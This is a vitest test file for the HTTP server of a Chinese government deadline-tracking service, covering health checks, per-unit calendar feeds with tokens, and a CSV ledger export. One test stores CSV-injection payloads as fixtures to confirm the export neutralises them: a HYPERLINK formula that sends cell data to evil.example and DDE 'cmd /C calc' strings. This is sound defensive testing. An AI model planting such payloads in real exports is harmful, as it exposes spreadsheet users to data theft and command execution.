import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ical, { type VEvent } from 'node-ical';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fixedClock, parseNow } from '../../src/clock.ts';
import { calendarToken } from '../../src/http/calendar-token.ts';
import type { SchedulerStatus } from '../../src/scheduler/start.ts';
import { startHttpServer, type RunningHttpServer } from '../../src/http/server.ts';
import { defaultPolicy } from '../../src/plan/policy.ts';
import { serviceEndpoints } from '../../src/service/endpoints.ts';
import { openDb, type Db } from '../../src/store/db.ts';
import { reportDone } from '../../src/store/done.ts';
import { importObligations } from '../../src/store/import.ts';
import { UnitDirectory } from '../../src/units/directory.ts';
import { capturedLogger, obligation, tempDir } from './fixtures.ts';

const NOW = parseNow('2018-06-20T10:00');
const directory = new UnitDirectory({
  units: [
    { name: '省发展和改革委员会', aliases: ['省发改委', '省发展改革委'] },
    { name: '省财政厅', aliases: [] },
  ],
  groups: [{ name: '省级有关单位', aliases: ['省级有关部门'], members: ['省发展和改革委员会', '省财政厅'] }],
});

const records = [
  obligation({ line: 5, task: '完成投资项目在线审批监管平台建设', lead: ['省发改委'], co: ['省财政厅'], due: '2018-06-30', expression: '2018年6月底前' }),
  obligation({
    line: 9,
    kind: 'recurring',
    due: null,
    rrule: 'FREQ=YEARLY;BYMONTH=3;BYMONTHDAY=1',
    start: '2019-01-01',
    expression: '从2019年起,每年3月1日前',
    task: '报送上年度工作总结',
    lead: ['省级有关部门'],
  }),
  obligation({ line: 12, task: '出台财政资金管理办法', lead: ['省财政厅'], due: '2018-09-30', expression: '2018年9月底前' }),
  obligation({
    line: 15,
    kind: 'sla',
    due: null,
    within: { days: 3, workdays: true, after: '收到申请材料' },
    expression: '收到申请材料起3个工作日内',
    task: '作出审核决定',
    lead: ['省发展改革委'],
  }),
];

let dir: string;
let cleanup: () => void;
let db: Db;
let dbPath: string;
let server: RunningHttpServer;
let scheduler: SchedulerStatus;
let log: ReturnType<typeof capturedLogger>;
let feedsBuilt: number;

const LEDGER_TOKEN = 'ledger-token-0123456789abcdef';

async function start({ calendarSecret, ledgerToken = LEDGER_TOKEN }: { calendarSecret?: string; ledgerToken?: string | null } = {}) {
  log = capturedLogger();
  feedsBuilt = 0;
  const endpoints = serviceEndpoints({
    db,
    dbPath,
    directory,
    policy: defaultPolicy,
    clock: fixedClock(NOW),
    startedAt: NOW,
    scheduler: () => scheduler,
    degradations: () => [],
    details: () => ({ channels: { email: { via: '.eml 文件' }, telegram: { configured: false } } }),
    calendarSecret,
    ledgerToken: ledgerToken ?? undefined,
  });
  server = await startHttpServer({
    port: 0,
    host: '127.0.0.1',
    logger: log.logger,
    endpoints: {
      ...endpoints,
      unitFeed: (unit) => {
        feedsBuilt++;
        return endpoints.unitFeed(unit);
      },
    },
  });
}

beforeEach(() => {
  ({ dir, cleanup } = tempDir());
  dbPath = path.join(dir, 'shixian.db');
  db = openDb(dbPath);
  importObligations(db, 'gazette.txt', records, NOW);
  scheduler = { lastPassAt: new Date(NOW.getTime() - 30_000), nextPassAt: new Date(NOW.getTime() + 30_000), lastError: null, unplannable: [], channelErrors: {} };
});

afterEach(async (ctx) => {
  if (ctx.task.result?.state === 'fail') console.log(log?.lines().filter((l) => l.level as number >= 50));
  await server?.close();
  if (db.open) db.close();
  cleanup();
});

const get = (p: string) => fetch(`${server.url}${p}`);

describe('/healthz', () => {
  it('is 200 with the database, scheduler and channels when all is well', async () => {
    await start();
    const res = await get('/healthz');
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body).toMatchObject({
      status: '正常',
      database: { ok: true, obligations: 4, documents: 1 },
      scheduler: { ok: true, lastPass: '2018-06-20T01:59:30.000Z', nextPass: '2018-06-20T02:00:30.000Z' },
      channels: { email: { via: '.eml 文件' }, telegram: { configured: false } },
    });
  });

  it('is 503 when the database file is gone', async () => {
    await start();
    fs.rmSync(dbPath);
    const res = await get('/healthz');
    expect(res.status).toBe(503);
    const body = await res.json();
    expect(body.status).toBe('故障');
    expect(body.database.ok).toBe(false);
    expect(body.problems).toContain('数据库无法读取');
  });

  it('is 503 when the database connection cannot be read', async () => {
    await start();
    db.close();
    const res = await get('/healthz');
    expect(res.status).toBe(503);
    expect((await res.json()).database.ok).toBe(false);
  });

  it('is 503 when the scheduler is late past its grace', async () => {
    scheduler = { lastPassAt: new Date(NOW.getTime() - 600_000), nextPassAt: new Date(NOW.getTime() - 540_000), lastError: null, unplannable: [], channelErrors: {} };
    await start();
    const res = await get('/healthz');
    expect(res.status).toBe(503);
    const body = await res.json();
    expect(body.scheduler.ok).toBe(false);
    expect(body.problems.join()).toMatch(/调度已过预定时间 540 秒仍未运行/);
  });

  /**
   * Makes a file read-only for this process, the way an operator's volume goes wrong: chattr +i when
   * running as root (a mode alone does not stop root), a 0444 mode otherwise. Returns the undo.
   */
  function makeReadOnly(file: string): () => void {
    if (process.getuid?.() === 0) {
      execFileSync('chattr', ['+i', file]);
      return () => execFileSync('chattr', ['-i', file]);
    }
    const mode = fs.statSync(file).mode;
    fs.chmodSync(file, 0o444);
    return () => fs.chmodSync(file, mode);
  }

  it('is 503 with the reason when the ledger file cannot be written, though it still reads', async () => {
    await start();
    const undo = makeReadOnly(dbPath);
    try {
      const res = await get('/healthz');
      expect(res.status).toBe(503);
      const body = await res.json();
      expect(body.status).toBe('故障');
      expect(body.database).toMatchObject({ ok: false, writable: false, obligations: 4 });
      expect(body.problems).toEqual([expect.stringMatching(new RegExp(`^数据库无法写入:账本文件 ${dbPath} 不可写\\((EPERM|EACCES)\\)$`))]);
    } finally {
      undo();
    }
    expect((await get('/healthz')).status).toBe(200);
  });

  it('is 503 with the reason when the last scheduler pass failed', async () => {
    scheduler = { ...scheduler, lastError: 'SQLITE_FULL: database or disk is full' };
    await start();
    const res = await get('/healthz');
    expect(res.status).toBe(503);
    expect((await res.json()).problems).toEqual(['上一轮调度失败:SQLITE_FULL: database or disk is full']);
  });

  it('is degraded (200) with the reason when records were skipped or digests given up', async () => {
    scheduler = { ...scheduler, unplannable: [{ obligation: 'abc', error: 'due: 0000-00-00 不是真实的日期' }] };
    db.prepare(
      "INSERT INTO outbox (channel, recipient, address, slot, message_id, status, next_try_at, created_at, last_error) VALUES ('email', '张三', 'z@example.gov.cn', '2018-06-19', 'm1', 'failed', '2018-06-19T01:00:00Z', '2018-06-19T01:00:00Z', '535 authentication failed')",
    ).run();
    await start();
    const res = await get('/healthz');
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(body.status).toBe('降级运行');
    expect(body.degraded).toEqual([
      '1 份提醒摘要已放弃发送(原因见 database.givenUp;shixian outbox retry --failed 可重发)',
      '1 条已存记录无法排期,已跳过(见 scheduler.unplannable)',
    ]);
    expect(body.database.givenUp).toEqual({ '535 authentication failed': 1 });
    expect(body.scheduler.unplannable).toEqual([{ obligation: 'abc', error: 'due: 0000-00-00 不是真实的日期' }]);
  });
});

type FeedEvent = VEvent & { summary: string };

function eventsOf(text: string): FeedEvent[] {
  return Object.values(ical.sync.parseICS(text)).filter((c): c is FeedEvent => c?.type === 'VEVENT');
}

/** node-ical gives a DATE value as local midnight of that date. */
function dateOf(d: Date & { dateOnly?: boolean }): string {
  expect(d.dateOnly).toBe(true);
  return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
}

describe('/calendar/<unit>.ics', () => {
  it('is the feed of every obligation reaching the unit, through aliases and groups, parsed back by node-ical', async () => {
    await start();
    const res = await get(`/calendar/${encodeURIComponent('省发改委')}.ics`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    const text = await res.text();
    expect(text).toContain('X-WR-CALNAME:时限 · 省发展和改革委员会');

    const events = eventsOf(text);
    // Its own (by alias, lead), the group's yearly report; not 省财政厅's own; the sla one has no date.
    expect(events.map((e) => e.summary).sort()).toEqual(['【牵头】完成投资项目在线审批监管平台建设', '【牵头】报送上年度工作总结']);

    // Written as DATE values, so no subscriber's zone can move a deadline to another day.
    expect(text).toMatch(/DTSTART;VALUE=DATE:20180630\r\n/);
    expect(text).toMatch(/DTSTART;VALUE=DATE:20190301\r\n/);
    expect(text).toMatch(/DTSTAMP:20180620T020000Z\r\n/);
    const once = events.find((e) => e.summary.includes('在线审批'))!;
    expect(dateOf(once.start)).toBe('2018-06-30');
    expect(once.rrule).toBeUndefined();

    const yearly = events.find((e) => e.summary.includes('工作总结'))!;
    expect(dateOf(yearly.start)).toBe('2019-03-01');
    expect(text).toMatch(/RRULE:FREQ=YEARLY;BYMONTH=3;BYMONTHDAY=1\r\n/);
    const occurrences = ical.expandRecurringEvent(yearly, { from: new Date(2018, 0, 1), to: new Date(2021, 11, 31) });
    expect(occurrences.map((o) => dateOf(o.start))).toEqual(['2019-03-01', '2020-03-01', '2021-03-01']);

    // One alarm per reminder offset (30, 7, 3, 1 days before and the day itself at 09:00) and the first overdue day.
    // Relative to the start of the due date, never to the end of the all-day event (the next day).
    type Trigger = { val: string; params: { RELATED: string } };
    const alarms = (once as unknown as { alarms: Array<{ action: string; trigger: Trigger }> }).alarms;
    expect(alarms.map((a) => a.trigger.val)).toEqual(['-P29DT15H', '-P6DT15H', '-P2DT15H', '-PT15H', 'PT9H', 'P1DT9H']);
    expect(alarms.every((a) => a.trigger.params.RELATED === 'START' && a.action === 'DISPLAY')).toBe(true);
  });

  it('leaves out a stored row whose date does not exist instead of failing the feed', async () => {
    const columns = (db.prepare("SELECT name FROM pragma_table_info('obligations')").pluck().all() as string[]).filter((c) => c !== 'id' && c !== 'due');
    const source = db.prepare("SELECT id FROM obligations WHERE task = '出台财政资金管理办法'").pluck().get() as string;
    db.prepare(`INSERT INTO obligations (id, due, ${columns.join(', ')}) SELECT 'bad-zero-date', '0000-00-00', ${columns.join(', ')} FROM obligations WHERE id = ?`).run(source);
    db.prepare("INSERT INTO obligation_units (obligation_id, unit, role) SELECT 'bad-zero-date', unit, role FROM obligation_units WHERE obligation_id = ?").run(source);
    await start();
    const res = await get(`/calendar/${encodeURIComponent('省财政厅')}.ics`);
    expect(res.status).toBe(200);
    expect(eventsOf(await res.text()).map((e) => e.summary)).toHaveLength(3);
  });

  it('gives the co-operating units their part', async () => {
    await start();
    const events = eventsOf(await (await get(`/calendar/${encodeURIComponent('省财政厅')}.ics`)).text());
    expect(events.map((e) => e.summary).sort()).toEqual([
      '【牵头】出台财政资金管理办法',
      '【牵头】报送上年度工作总结',
      '【配合】完成投资项目在线审批监管平台建设',
    ]);
  });

  it('leaves out the alarms of an occurrence the unit has done, and only for that unit', async () => {
    const idOf = (task: string) => (db.prepare('SELECT id FROM obligations WHERE task = ?').pluck().get(task) as string);
    const at = NOW;
    // 省财政厅 co-operates on the platform and reports its part; 省发改委 leads it and has not.
    reportDone(db, { obligationId: idOf('完成投资项目在线审批监管平台建设'), occurrence: '2018-06-30', units: ['省财政厅'], by: '张三', at, note: null });
    reportDone(db, { obligationId: idOf('报送上年度工作总结'), occurrence: '2020-03-01', units: ['省财政厅'], by: '张三', at, note: null });
    await start();
    type WithAlarms = FeedEvent & { alarms?: unknown[] };
    const finance = eventsOf(await (await get(`/calendar/${encodeURIComponent('省财政厅')}.ics`)).text()) as WithAlarms[];
    const platform = finance.find((e) => e.summary.includes('在线审批'))!;
    expect(platform.summary).toBe('【配合】完成投资项目在线审批监管平台建设(已完成)');
    expect(platform.alarms ?? []).toHaveLength(0);
    const yearlyText = await (await get(`/calendar/${encodeURIComponent('省财政厅')}.ics`)).text();
    expect(yearlyText).toMatch(/EXDATE;VALUE=DATE:20200301\r\n/);
    const financeEvents = eventsOf(yearlyText) as WithAlarms[];
    const series = financeEvents.find((e) => e.summary === '【牵头】报送上年度工作总结')!;
    expect((series.alarms ?? []).length).toBeGreaterThan(0); // the other years still ring
    const occurrences = ical.expandRecurringEvent(series, { from: new Date(2019, 0, 1), to: new Date(2021, 11, 31) });
    expect(occurrences.map((o) => dateOf(o.start))).toEqual(['2019-03-01', '2021-03-01']);
    const doneYear = financeEvents.find((e) => e.summary === '【牵头】报送上年度工作总结(已完成)')!;
    expect(dateOf(doneYear.start)).toBe('2020-03-01');
    expect(doneYear.alarms ?? []).toHaveLength(0);

    const planning = eventsOf(await (await get(`/calendar/${encodeURIComponent('省发改委')}.ics`)).text()) as WithAlarms[];
    const led = planning.find((e) => e.summary.includes('在线审批'))!;
    expect(led.summary).toBe('【牵头】完成投资项目在线审批监管平台建设');
    expect(led.alarms).toHaveLength(6);
  });

  it("tells where each deadline stands in its file: a PDF's page as well as the line", async () => {
    importObligations(db, 'notice.pdf', [obligation({ line: 7, page: 3, task: '完成体育场馆开放', lead: ['省体育局'], due: '2018-08-31', expression: '2018年8月底前', doc: { number: '浙体发〔2018〕3号', title: '体育通知', issued: '2018-03-01' } })], NOW);
    await start();
    const [sport] = eventsOf(await (await get(`/calendar/${encodeURIComponent('省体育局')}.ics`)).text());
    expect(sport.description).toContain('出处:notice.pdf 第3页 第7行');
    const reform = eventsOf(await (await get(`/calendar/${encodeURIComponent('省发改委')}.ics`)).text()).find((e) => e.summary.includes('在线审批'))!;
    expect(reform.description).toContain('出处:gazette.txt 第5行');
  });

  it('rings a daily duty on its day only, and a weekly one on its day and its first overdue day', async () => {
    const recurring = (task: string, rrule: string) =>
      obligation({ task, kind: 'recurring', due: null, rrule, start: '2018-06-01', lead: ['省应急管理厅'], expression: '每天' });
    importObligations(db, 'duty.txt', [recurring('报送值班信息', 'FREQ=DAILY'), recurring('报送周报', 'FREQ=WEEKLY;BYDAY=FR')], NOW);
    await start();
    const events = eventsOf(await (await get(`/calendar/${encodeURIComponent('省应急管理厅')}.ics`)).text());
    type WithTriggers = { alarms: Array<{ trigger: { val: string } }> };
    const triggers = (task: string) => (events.find((e) => e.summary.includes(task)) as unknown as WithTriggers).alarms.map((a) => a.trigger.val);
    expect(triggers('值班信息')).toEqual(['PT9H']);
    expect(triggers('周报')).toEqual(['PT9H', 'P1DT9H']);
  });

  it('is 404 for a unit nothing reaches', async () => {
    await start();
    const res = await get(`/calendar/${encodeURIComponent('省体育局')}.ics`);
    expect(res.status).toBe(404);
    expect(await res.text()).toBe('没有任何事项涉及单位“省体育局”\n');
  });

  it('needs the unit token when CALENDAR_TOKEN_SECRET is set, the same for every alias', async () => {
    const secret = 'calendar-secret-0123456789abcdef';
    await start({ calendarSecret: secret });
    const token = calendarToken(secret, '省发展和改革委员会');
    const refused = await get(`/calendar/${encodeURIComponent('省发改委')}.ics`);
    expect(refused.status).toBe(403);
    expect(await refused.text()).toMatch(/^这个日历需要本单位的令牌/);
    expect((await get(`/calendar/${encodeURIComponent('省发改委')}.ics?token=${calendarToken(secret, '省财政厅')}`)).status).toBe(403);
    expect((await get(`/calendar/${encodeURIComponent('省体育局')}.ics?token=${token}`)).status).toBe(403);
    const ok = await get(`/calendar/${encodeURIComponent('省发展改革委')}.ics?token=${token}`);
    expect(ok.status).toBe(200);
    expect(eventsOf(await ok.text())).toHaveLength(2);
  });

  it('checks the token before building anything, so strangers learn nothing and cost nothing', async () => {
    const secret = 'calendar-secret-0123456789abcdef';
    await start({ calendarSecret: secret });
    expect((await get(`/calendar/${encodeURIComponent('省发改委')}.ics`)).status).toBe(403);
    expect((await get(`/calendar/${encodeURIComponent('省体育局')}.ics?token=wrong`)).status).toBe(403);
    expect(feedsBuilt).toBe(0);
    // A valid token for a unit nothing reaches: its holder may know it is empty.
    expect((await get(`/calendar/${encodeURIComponent('省体育局')}.ics?token=${calendarToken(secret, '省体育局')}`)).status).toBe(404);
    expect(feedsBuilt).toBe(1);
  });
});

describe('/obligations.csv', () => {
  async function csv(query: string) {
    const res = await fetch(`${server.url}/obligations.csv${query}`, { headers: { authorization: `Bearer ${LEDGER_TOKEN}` } });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    return { res, bytes, rows: parseCsv(bytes, { bom: true, columns: true }) as Array<Record<string, string>> };
  }

  it('is the whole ledger, UTF-8 with a BOM so Excel reads the Chinese', async () => {
    await start();
    const { res, bytes, rows } = await csv('');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows).toHaveLength(4);
    const first = rows[0];
    expect(first).toMatchObject({ 文号: '浙政办发〔2018〕1号', 任务: '完成投资项目在线审批监管平台建设', 到期日: '2018-06-30', 牵头单位: '省发改委', 配合单位: '省财政厅', 来源: 'gazette.txt', 行: '5' });
    // The yearly report, listed under its next occurrence from "now" (2018-06-20).
    expect(rows.find((r) => r.任务 === '报送上年度工作总结')).toMatchObject({ 类型: '周期性', 到期日: '2019-03-01', 周期规则: '每年3月1日' });
    expect(rows.find((r) => r.任务 === '作出审核决定')).toMatchObject({ 类型: '办理时限', 到期日: '', 办理时限: '收到申请材料起3个工作日内' });
  });

  it('filters by unit (through aliases and groups) and by a date range', async () => {
    await start();
    const byUnit = await csv(`?unit=${encodeURIComponent('省发展改革委')}`);
    expect(byUnit.rows.map((r) => r.任务).sort()).toEqual(['作出审核决定', '完成投资项目在线审批监管平台建设', '报送上年度工作总结']);

    const inRange = await csv('?from=2018-07-01&to=2019-12-31');
    expect(inRange.rows.map((r) => [r.任务, r.到期日])).toEqual([
      ['出台财政资金管理办法', '2018-09-30'],
      ['报送上年度工作总结', '2019-03-01'],
    ]);

    const both = await csv(`?unit=${encodeURIComponent('省财政厅')}&to=2018-06-30`);
    expect(both.rows.map((r) => r.任务)).toEqual(['完成投资项目在线审批监管平台建设']);
  });

  it('streams a ledger larger than a page in due-date order, recurring duties merged in', async () => {
    const many = Array.from({ length: 4_500 }, (_, i) =>
      obligation({ source: 'big.txt', line: i + 1, task: `任务${i}`, due: `2019-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')}`, doc: { number: '浙政发〔2019〕9号', title: '大文件', issued: '2019-01-01' } }),
    );
    importObligations(db, 'big.txt', many, NOW);
    await start();
    const { rows } = await csv('?from=2019-01-01&to=2019-12-31');
    expect(rows).toHaveLength(4_500 + 1);
    const dates = rows.map((r) => r.到期日);
    expect(dates).toEqual([...dates].sort());
    // The yearly report of 2019-03-01 stands between the dated rows of 02-28 and 03-01.
    const report = rows.findIndex((r) => r.任务 === '报送上年度工作总结');
    expect(rows[report]).toMatchObject({ 到期日: '2019-03-01', 类型: '周期性' });
    expect(rows[report - 1].到期日 < '2019-03-01').toBe(true);
    expect(new Set(rows.map((r) => r.编号)).size).toBe(rows.length);
  });

  it('says what is wrong with a bad filter', async () => {
    await start();
    const token = `token=${LEDGER_TOKEN}`;
    const res = await get(`/obligations.csv?from=2018-13&to=2018-01-01&${token}`);
    expect(res.status).toBe(400);
    expect(await res.text()).toMatch(/from: 应为 YYYY-MM-DD 格式的日期/);
    expect((await get(`/obligations.csv?from=2019-01-01&to=2018-01-01&${token}`)).status).toBe(400);
    const unknown = await get(`/obligations.csv?unti=省财政厅&${token}`);
    expect(unknown.status).toBe(400);
    expect(await unknown.text()).toBe('出现未知的键(key): "unti"\n');
  });

  it('refuses an impossible date by its parameter, before any row is written', async () => {
    await start();
    for (const [query, parameter] of [
      ['from=2018-06-31', 'from'],
      ['to=2018-13-01', 'to'],
      ['from=2018-02-29&to=2018-12-31', 'from'],
    ]) {
      const res = await get(`/obligations.csv?${query}&token=${LEDGER_TOKEN}`);
      expect(res.status, query).toBe(400);
      expect(await res.text()).toBe(`${parameter}: ${query.split('&')[0].split('=')[1]} 不是真实的日期\n`);
    }
    expect(log.lines().filter((l) => (l.level as number) >= 50)).toEqual([]);
    expect((await get(`/obligations.csv?from=2020-02-29&token=${LEDGER_TOKEN}`)).status).toBe(200);
  });

  it('is off, and says so, without LEDGER_TOKEN; with it, only the token opens it', async () => {
    await start({ ledgerToken: null });
    const off = await get('/obligations.csv');
    expect(off.status).toBe(403);
    expect(await off.text()).toMatch(/台账导出未开启.*LEDGER_TOKEN/);
    await server.close();

    await start();
    const missing = await get('/obligations.csv');
    expect(missing.status).toBe(401);
    expect(missing.headers.get('www-authenticate')).toMatch(/^Bearer/);
    expect(await missing.text()).toMatch(/台账导出需要令牌/);
    expect((await get('/obligations.csv?token=ledger-token-0123456789abcdeX')).status).toBe(401);
    expect((await fetch(`${server.url}/obligations.csv`, { headers: { authorization: 'Bearer nope' } })).status).toBe(401);
    // The token of a calendar opens no ledger.
    expect((await get(`/obligations.csv?token=${calendarToken(LEDGER_TOKEN, '省财政厅')}`)).status).toBe(401);
    expect((await get(`/obligations.csv?token=${LEDGER_TOKEN}`)).status).toBe(200);
    expect((await fetch(`${server.url}/obligations.csv`, { headers: { authorization: `Bearer ${LEDGER_TOKEN}` } })).status).toBe(200);
    // The request log names the path only, never the token.
    expect(JSON.stringify(log.lines())).not.toContain(LEDGER_TOKEN);
  });

  it('writes a hostile record as text Excel will not run (CSV injection)', async () => {
    const hostile = obligation({
      source: 'hostile.jsonl',
      line: 1,
      task: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      lead: ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
      co: ['-2+3+cmd|\' /C calc\'!A0'],
      expression: '\t2018年7月底前',
      due: '2018-07-31',
      doc: { number: '+1+1', title: '\r=1+1', issued: '2018-01-15' },
    });
    importObligations(db, 'hostile.jsonl', [hostile], NOW);
    await start();
    const { rows } = await csv('');
    const row = rows.find((r) => r.来源 === 'hostile.jsonl')!;
    expect(row).toMatchObject({
      任务: `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
      牵头单位: `'@SUM(1+1)*cmd|' /C calc'!A0`,
      配合单位: `'-2+3+cmd|' /C calc'!A0`,
      文号: "'+1+1",
      文件标题: "'\r=1+1",
      时限原文: "'\t2018年7月底前",
      到期日: '2018-07-31',
    });
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('a hostile request', () => {
  /** Sends a request line as written, with no client tidying the path, and returns the status line. */
  async function rawRequest(requestLine: string): Promise<string> {
    const { port } = new URL(server.url);
    const socket = net.connect(Number(port), '127.0.0.1');
    socket.write(`${requestLine}\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
    let answer = '';
    for await (const chunk of socket) answer += (chunk as Buffer).toString('utf8');
    return answer.split('\r\n')[0];
  }

  it('with a path the URL parser refuses is a 400, and the server answers the next request', async () => {
    await start();
    expect(await rawRequest('GET //[ HTTP/1.1')).toBe('HTTP/1.1 400 Bad Request');
    expect(await rawRequest('GET //[::1 HTTP/1.1')).toBe('HTTP/1.1 400 Bad Request');
    expect((await get('/healthz')).status).toBe(200);
  });
});
